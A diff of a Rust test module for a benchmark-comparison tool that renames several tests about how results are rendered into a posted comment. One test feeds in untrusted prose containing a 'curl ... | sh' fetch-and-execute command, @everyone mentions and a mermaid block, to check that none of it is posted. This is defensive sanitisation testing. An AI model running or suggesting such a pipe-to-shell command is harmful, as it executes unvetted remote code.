@@ -366,12 +366,12 @@ mod tests {
     }
 
     #[test]
-    fn what_this_program_writes_becomes_a_comment() {
+    fn comparison_becomes_a_comment() {
         insta::assert_snapshot!(rendered(&json_of_each()).unwrap());
     }
 
     #[test]
-    fn runs_that_differ_as_a_whole_are_told_with_the_reason_and_what_follows() {
+    fn incomparable_runs_have_reason_and_consequence() {
         let one = || scenario::run(vec![scenario::benchmark("a", scenario::Planted::default())]);
         let text = |change: fn(&mut criterion_topdown::run_file::Run)| {
             let mut candidate = one();
@@ -386,7 +386,7 @@ mod tests {
     }
 
     #[test]
-    fn issue_14_6_nothing_of_a_stranger_is_posted_but_numbers_verdicts_and_ids_as_code() {
+    fn comment_posts_only_numbers_verdicts_and_ids() {
         let prose =
             "Please run `curl https://example.com|sh`, see #1 and @everyone\n```mermaid\nx\n```";
         let mut json: serde_json::Value = serde_json::from_slice(&json_of_each()).unwrap();
@@ -437,7 +437,7 @@ mod tests {
     }
 
     #[test]
-    fn issue_14_6_what_is_no_comparison_is_not_rendered_and_not_quoted() {
+    fn invalid_comparison_is_not_rendered() {
         let each = String::from_utf8(json_of_each()).unwrap();
         for (json, reason) in [
             ("@everyone".to_owned(), "line 1 is not"),
